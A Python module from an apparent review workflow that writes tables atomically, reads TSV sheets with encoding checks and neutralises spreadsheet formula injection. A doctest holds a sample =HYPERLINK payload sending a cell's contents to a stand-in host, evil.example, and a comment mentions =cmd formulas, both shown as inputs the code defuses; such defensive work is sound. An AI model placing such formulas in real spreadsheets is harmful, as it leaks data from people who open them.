"""Reading and writing tables without ever leaving half a file behind.

Writes go to a temporary file in the destination folder, are flushed to disk and then
renamed over the target (``os.replace`` is atomic on POSIX), so an interrupted run leaves
either the old file or the new one, never a partial one.  TSV reading keeps every cell as
text and reports problems with file and line numbers.

People open these tables in Excel or LibreOffice, so a cell that would start a formula is
written with a leading single quote (OWASP's advice against CSV/formula injection) and read
back without it: :func:`spreadsheet_cell` and :func:`read_cell` are the one rule, used by
:func:`write_tsv`, :func:`parse_tsv` and the desk's sheet editor alike.
"""

from __future__ import annotations

import codecs
import csv
import hashlib
import io
import os
import re
import tempfile
from collections.abc import Iterable, Iterator, Mapping, Sequence
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import IO

from .errors import InputFileError


@contextmanager
def atomic_open(path: str | Path, mode: str = "w", encoding: str | None = "utf-8") -> Iterator[IO]:
    """Open a temporary sibling of ``path``; rename it over ``path`` only on success."""
    target = Path(path)
    target.parent.mkdir(parents=True, exist_ok=True)
    binary = "b" in mode
    fd, tmp_name = tempfile.mkstemp(prefix=f".{target.name}.", suffix=".tmp", dir=target.parent)
    # mkstemp creates 0600 files; give the result the mode an ordinary open() would (0666
    # less the umask) so that the review team can read results on a shared server.
    umask = os.umask(0)
    os.umask(umask)
    os.chmod(tmp_name, 0o666 & ~umask)
    try:
        with os.fdopen(
            fd, mode, encoding=None if binary else encoding, newline=None if binary else ""
        ) as handle:
            yield handle
            handle.flush()
            os.fsync(handle.fileno())
        os.replace(tmp_name, target)
    except BaseException:
        try:
            os.unlink(tmp_name)
        except FileNotFoundError:
            pass
        raise


def write_text(path: str | Path, text: str) -> None:
    """Write ``text`` atomically (UTF-8, ``\\n`` line endings)."""
    with atomic_open(path, "w") as handle:
        handle.write(text)


def write_tsv(
    path: str | Path, rows: Iterable[Mapping[str, object]], columns: Sequence[str]
) -> None:
    """Write dict rows as a tab-separated table with exactly ``columns``, atomically.

    ``None`` becomes an empty cell; tabs and newlines inside values are replaced by spaces
    so that every record stays on one line; a value that would start a spreadsheet formula
    is neutralised (:func:`spreadsheet_cell`), and :func:`parse_tsv` gives it back as it was.
    """
    with atomic_open(path, "w") as handle:
        writer = csv.writer(handle, delimiter="\t", lineterminator="\n", quoting=csv.QUOTE_MINIMAL)
        writer.writerow(columns)
        for row in rows:
            writer.writerow([_cell(row.get(column)) for column in columns])


def _cell(value: object) -> str:
    if type(value) is str:
        text = value  # the common case first (large tables)
    elif value is None:
        return ""
    elif isinstance(value, float) and value != value:  # NaN
        return ""
    else:
        text = str(value)
    if "\t" in text or "\n" in text or "\r" in text:
        text = text.replace("\t", " ").replace("\r\n", " ").replace("\n", " ").replace("\r", " ")
    if text and (text[0] in _RISKY_FIRST or text[0].isspace()):
        return spreadsheet_cell(text)
    return text  # the common case, without a regular expression (large tables)


# ----------------------------------------------------------------- formula injection
#
# OWASP (CSV Injection) and ASVS 1.2.10: a cell whose first character is =, +, -, @, a tab
# or a carriage return may be run as a formula by Excel, LibreOffice or Google Sheets
# (=HYPERLINK(...) sends other cells to a web site; =cmd|... starts programs).  Neutralise by
# prefixing a single quote.  Full-width ＝ ＋ － ＠ are included (spreadsheets in East Asian
# locales may take them as the ASCII ones), and so is whitespace before any of them.
#
# To read back exactly what was written, the quote itself is escaped: a value that is already
# some quotes followed by a formula start gets one more quote, and the reader strips exactly
# one quote from a cell that is one or more quotes followed by a formula start.  Every other
# cell (a title in quotes, 'Mad cow' disease) is written and read as it is.  A plain number
# (-1, -0.35, +2, -1.5e-3) is data, not a formula: it stays a number for the spreadsheet.

#: Characters that may start a formula (ASCII and full-width), after optional whitespace.
FORMULA_STARTS = "=+-@\uff1d\uff0b\uff0d\uff20"
_FORMULA_START = f"(?:[\\t\\r\\n]|\\s*[{re.escape(FORMULA_STARTS)}])"
_NEEDS_QUOTE = re.compile(f"'*{_FORMULA_START}")
_QUOTED = re.compile(f"'+{_FORMULA_START}")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:[0-9]+\.?[0-9]*|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")
_RISKY_FIRST = frozenset(FORMULA_STARTS + "'")


def spreadsheet_cell(value: object) -> str:
    """The text of a cell as written to a sheet people may open in a spreadsheet program.

    ``None`` and NaN are empty; a value that would start a formula gets a leading ``'`` (and a
    value that is quotes before a formula start gets one more, so that :func:`read_cell`
    gives back every value exactly); a plain number stays a number. Tabs and newlines are
    left to the caller (:func:`write_tsv` and the desk make them spaces).

    >>> print(spreadsheet_cell('=HYPERLINK("http://evil.example/?x="&A1,"x")'))
    '=HYPERLINK("http://evil.example/?x="&A1,"x")
    >>> [spreadsheet_cell(v) for v in ("-0.35", -1, "+44 20 7946 0958", "@mention", "'=1")]
    ['-0.35', '-1', "'+44 20 7946 0958", "'@mention", "''=1"]
    >>> [spreadsheet_cell(v) for v in ("'Mad cow' disease", "co-trimoxazole", None)]
    ["'Mad cow' disease", 'co-trimoxazole', '']
    """
    if value is None or (isinstance(value, float) and value != value):
        return ""
    text = value if type(value) is str else str(value)
    if _NEEDS_QUOTE.match(text) and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


def read_cell(text: str) -> str:
    """The value a cell of a sheet stands for: :func:`spreadsheet_cell` undone.

    Strips exactly one leading ``'`` from a cell that is quotes followed by a formula start;
    leaves everything else as it is (also a formula start typed by hand without a quote,
    which is what the person typed).

    >>> [read_cell(t) for t in ("'=1+1", "''=1", "=1+1", "'Mad cow' disease", "-1")]
    ['=1+1', "'=1", '=1+1', "'Mad cow' disease", '-1']
    """
    if text[:1] == "'" and _QUOTED.match(text):
        return text[1:]
    return text


#: How to save a sheet so that it is read, in words the common spreadsheet programs use.
SAVE_AS_ADVICE = (
    "save it as tab-separated text: Excel 'Save As' > 'Unicode Text (*.txt)'; LibreOffice Calc "
    "'Save As' > 'Text CSV (.csv)' with 'Edit filter settings', character set 'Unicode (UTF-8)' "
    "and field delimiter '{Tab}'; Google Sheets 'File' > 'Download' > 'Tab-separated values (.tsv)'"
)

_UTF16_BOMS = (codecs.BOM_UTF16_LE, codecs.BOM_UTF16_BE)
# A multi-byte UTF-8 sequence: a file that has some is UTF-8 with damage, not Windows-1252.
_UTF8_SEQUENCE = re.compile(
    rb"[\xc2-\xdf][\x80-\xbf]|[\xe0-\xef][\x80-\xbf]{2}|[\xf0-\xf4][\x80-\xbf]{3}"
)
# Characters a Windows-1252 text sheet plausibly holds beyond ASCII and letters.
_CP1252_PUNCTUATION = frozenset("\u00a0‘’‚“”„–—…•°±µ×÷§¶©®«»¿¡·²³¹¼½¾€™†‡‰‹›")


def decode_sheet(data: bytes, path: str | Path) -> str:
    """The text of a sheet as spreadsheet programs save it, or an error naming what to do.

    Read: UTF-8 (with or without BOM; what LibreOffice and Google Sheets write), UTF-16 with a
    BOM (Excel's "Unicode Text"), and Windows-1252 (Excel's "Text (Tab delimited)") when the
    bytes decode to ordinary text that way and are not damaged UTF-8. Line endings may be
    CRLF (the CSV reader handles them). Anything else is refused rather than guessed.

    >>> decode_sheet("record_id\\tnote\\r\\nx\\tcafé".encode("utf-16"), "a.tsv")
    'record_id\\tnote\\r\\nx\\tcafé'
    >>> decode_sheet("note\\ncafé – ok".encode("cp1252"), "a.tsv")
    'note\\ncafé – ok'
    >>> decode_sheet(b"note\\n\\x81\\x8d", "a.tsv")
    Traceback (most recent call last):
    ...
    livingreview.errors.InputFileError: a.tsv, line 2: is not UTF-8 text and not plain Windows-1252 text either; allowed: UTF-8 or UTF-16 text: save it as tab-separated text: ...
    """
    if data.startswith(_UTF16_BOMS):
        try:
            return data.decode("utf-16")
        except UnicodeDecodeError as exc:
            raise InputFileError(
                path, "is damaged UTF-16 text", allowed=SAVE_AS_ADVICE, value=f"byte {exc.start}"
            ) from None
    if b"\x00" in data:  # UTF-16 without its BOM, or a binary file (.xlsx)
        raise InputFileError(
            path,
            "is not text (it holds NUL bytes)",
            allowed=f"UTF-8 or UTF-16 text: {SAVE_AS_ADVICE}",
        )
    try:
        return data.decode("utf-8-sig")
    except UnicodeDecodeError as exc:
        line = data[: exc.start].count(b"\n") + 1
    if not _UTF8_SEQUENCE.search(data):
        try:
            text = data.decode("cp1252")
        except UnicodeDecodeError:
            text = None
        if text is not None and all(
            ch.isascii() or ch.isalpha() or ch in _CP1252_PUNCTUATION for ch in text
        ):
            return text
    raise InputFileError(
        path,
        "is not UTF-8 text and not plain Windows-1252 text either",
        line=line,
        allowed=f"UTF-8 or UTF-16 text: {SAVE_AS_ADVICE}",
    )


@dataclass(frozen=True)
class Table:
    """A sheet as the workflow reads it: its header and its non-blank rows.

    Each row maps the header's columns to cell text and carries its 1-based file line in the
    key ``"__line__"`` (the header is line 1), so that validation can point at it.
    """

    columns: list[str]
    rows: list[dict[str, str]]


def parse_tsv(
    data: bytes | str,
    path: str | Path,
    required: Sequence[str] | None = None,
    allowed: Sequence[str] | None = None,
) -> Table:
    """Read TSV ``data`` (bytes are decoded as :func:`decode_sheet` does), checking the
    header; ``path`` only names the sheet in messages. The same reader serves a file on disk
    (:func:`read_tsv`) and a would-be sheet held in memory (the reviewers' desk).

    >>> parse_tsv(b"a\\tb\\n\\n1\\t2\\n", "s.tsv").rows
    [{'a': '1', 'b': '2', '__line__': '3'}]

    Raises:
        InputFileError: the encoding is not readable, a required column is missing, a column
            is not allowed, or a row has more cells than the header.
    """
    text = decode_sheet(data, path) if isinstance(data, bytes) else data
    reader = csv.reader(io.StringIO(text, newline=""), delimiter="\t")
    try:
        header = next(reader)
    except StopIteration:
        raise InputFileError(path, "is empty; expected a header line", line=1) from None
    header = [column.strip() for column in header]
    check_header(path, header, required, allowed)
    rows: list[dict[str, str]] = []
    for cells in reader:
        if not any(cell.strip() for cell in cells):
            continue
        if len(cells) > len(header):
            raise InputFileError(
                path,
                f"row has {len(cells)} cells but the header has {len(header)} columns",
                line=reader.line_num,
            )
        if len(cells) < len(header):
            cells = [*cells, *[""] * (len(header) - len(cells))]
        cells = [read_cell(cell) if cell[:1] == "'" else cell for cell in cells]
        row = dict(zip(header, cells, strict=True))
        row["__line__"] = str(reader.line_num)
        rows.append(row)
    return Table(header, rows)


def check_header(
    path: str | Path,
    header: Sequence[str],
    required: Sequence[str] | None = None,
    allowed: Sequence[str] | None = None,
) -> None:
    """Raise :class:`InputFileError` (line 1) when ``header`` lacks a required column or has
    one not allowed."""
    if required is not None:
        missing = [column for column in required if column not in header]
        if missing:
            raise InputFileError(
                path, f"missing column(s) {', '.join(missing)}", line=1, allowed=", ".join(required)
            )
    if allowed is not None:
        unknown = [column for column in header if column not in allowed]
        if unknown:
            raise InputFileError(
                path, f"unknown column(s) {', '.join(unknown)}", line=1, allowed=", ".join(allowed)
            )


def read_table(
    path: str | Path,
    required: Sequence[str] | None = None,
    allowed: Sequence[str] | None = None,
) -> Table:
    """:func:`parse_tsv` of the file at ``path`` (its header and rows)."""
    path = Path(path)
    try:
        data = path.read_bytes()
    except FileNotFoundError:
        raise InputFileError(path, "file not found") from None
    return parse_tsv(data, path, required, allowed)


def read_tsv(
    path: str | Path,
    required: Sequence[str] | None = None,
    allowed: Sequence[str] | None = None,
) -> list[dict[str, str]]:
    """Read a TSV into dicts of strings, checking the header (encodings: :func:`decode_sheet`).

    Each returned row carries its 1-based file line in the key ``"__line__"`` (the header is
    line 1) so that later validation can point at it.

    Raises:
        InputFileError: the file's encoding is not readable, a required column is missing, a column is not
            allowed, or a row has more cells than the header.
    """
    return read_table(path, required, allowed).rows


def iter_rows(path: str | Path) -> Iterator[dict[str, str]]:
    """The rows of a table the workflow wrote (UTF-8, by :func:`write_tsv`), one at a time, so
    that a step needing a few rows of a large table never holds it whole; cells are read
    back as written (:func:`read_cell`)."""
    with open(path, encoding="utf-8", newline="") as handle:
        reader = csv.reader(handle, delimiter="\t")
        header = next(reader, [])
        for cells in reader:
            if cells:
                yield {column: read_cell(cell) for column, cell in zip(header, cells)}


def read_rows(path: str | Path) -> list[dict[str, str]]:
    """Read a table the workflow wrote, as plain dicts (no ``__line__`` key)."""
    return [{k: v for k, v in row.items() if k != "__line__"} for row in read_tsv(path)]


def sha256_file(path: str | Path) -> str:
    """Hex SHA-256 of a file's bytes (for manifests and immutability checks)."""
    digest = hashlib.sha256()
    with open(path, "rb") as handle:
        for block in iter(lambda: handle.read(1 << 20), b""):
            digest.update(block)
    return digest.hexdigest()


def content_digest(paths: Iterable[str | Path]) -> str:
    """One SHA-256 over the names and bytes of ``paths`` (order does not matter).

    The workflow passes it as a rule parameter for the human-owned inputs (sheets, verdicts,
    exports): Snakemake reruns a job whose parameters changed, so an edited file is picked up
    even when it comes back with an older timestamp (``cp -p``, unzip, sync tools, a restored
    backup), and a file that was only touched changes nothing.
    """
    digest = hashlib.sha256()
    for path in sorted({str(p) for p in paths}):
        digest.update(path.encode("utf-8") + b"\0" + sha256_file(path).encode("ascii") + b"\n")
    return digest.hexdigest()
